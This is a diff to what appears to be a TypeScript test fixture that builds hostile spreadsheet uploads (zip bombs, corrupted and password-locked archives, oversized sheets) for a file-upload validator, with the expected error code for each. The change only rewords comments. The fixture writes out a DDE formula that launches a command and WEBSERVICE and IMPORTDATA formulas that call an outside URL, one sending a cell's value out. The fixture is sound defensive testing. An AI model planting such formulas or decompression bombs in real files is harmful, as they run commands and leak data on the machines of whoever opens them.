@@ -1,4 +1,4 @@
-/** Files that were made to harm whoever reads them, small enough to be sent, each with the code that refuses it. */
+/** Files made to harm their reader, small enough to be sent, each with its error code. */
 
 import { zipSync } from 'fflate'
 import type { UploadErrorCode } from '#shared/table-reading/workbook/workbook.ts'
@@ -43,7 +43,7 @@ const claiming = (zip: Uint8Array<ArrayBuffer>, size: number): Uint8Array<ArrayB
 const CENTRAL = 0x02014b50
 const MEBIBYTE = 1024 * 1024
 
-/** About a second to make; none is larger than the 2 MB that an upload may have, but the one that says so. */
+/** Takes about a second; none is larger than an upload's 2 MB, except the one named so. */
 export function hostileFiles(): HostileFile[] {
   const good = packXlsx({ sheets: [{ name: 'Parts', rows: LIST }] })
   const blank = ' '.repeat(40 * MEBIBYTE)
@@ -56,7 +56,7 @@ export function hostileFiles(): HostileFile[] {
     bytes: typeof bytes === 'string' ? encoder.encode(bytes) : bytes,
   })
   return [
-    // Too much comes out.
+    // They expand too much.
     file('bomb.xlsx', 'file_expands', bomb),
     file('bomb-that-claims-1-kb.xlsx', 'file_expands', claiming(bomb, 1024)),
     file(
@@ -117,7 +117,7 @@ export function hostileFiles(): HostileFile[] {
       }),
     ),
     file('overlapping-entries.xlsx', 'file_expands', overlapping(good)),
-    // Too many places.
+    // Too many cells or designators.
     file(
       'million-columns.xlsx',
       'file_too_wide',
@@ -172,7 +172,7 @@ export function hostileFiles(): HostileFile[] {
       'file_too_long',
       '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row Index="900000000"><Cell><Data>1</Data></Cell></Row></Table></Worksheet></Workbook>',
     ),
-    // What acts when it is opened.
+    // Active content.
     file('dde.xlsx', 'file_formulas', withFormula("cmd|'/c calc.exe'!A1")),
     file('webservice.xlsx', 'file_formulas', withFormula('_xlfn.WEBSERVICE("https://example.com/?"&A1)')),
     file('importdata.xlsx', 'file_formulas', withFormula('IMPORTDATA("https://example.com/list.csv")')),
@@ -212,7 +212,7 @@ export function hostileFiles(): HostileFile[] {
         cells: [xlsFormula(2, 0, 1, [0x5a, ...u16(0), ...u16(0), ...u16(0)])],
       }),
     ),
-    // Locked, broken, or something else.
+    // Locked, broken, or another format.
     file('password.xlsx', 'file_password', packCompound({ EncryptionInfo: new Uint8Array(8), EncryptedPackage: new Uint8Array(5000) })),
     file('password.xls', 'file_password', packXls({ rows: LIST, globals: [record(0x002f, u16(1), [...new Uint8Array(52)])] })),
     file('password.zip.xlsx', 'file_password', patchZip(good, CENTRAL, 8, u16(1))),
@@ -252,7 +252,7 @@ function overlapping(zip: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> {
   return patchZip(patchZip(zip, CENTRAL, 20, u32(maxOffset)), CENTRAL, 42, u32(0))
 }
 
-/** What was packed no longer unpacks: bytes in the middle of each part are other ones. */
+/** Corrupts the packed data: bytes in the middle of each part are changed. */
 function turned(zip: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> {
   const damaged = zip.slice()
   const view = new DataView(damaged.buffer)
@@ -262,7 +262,7 @@ function turned(zip: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> {
   return damaged
 }
 
-/** The chain of the workbook's sectors leads back to its first. */
+/** The sector chain of the workbook is circular. */
 function circular(): Uint8Array<ArrayBuffer> {
   const file = packXls({ rows: Array.from({ length: 300 }, () => LIST.flat()) })
   const view = new DataView(file.buffer)
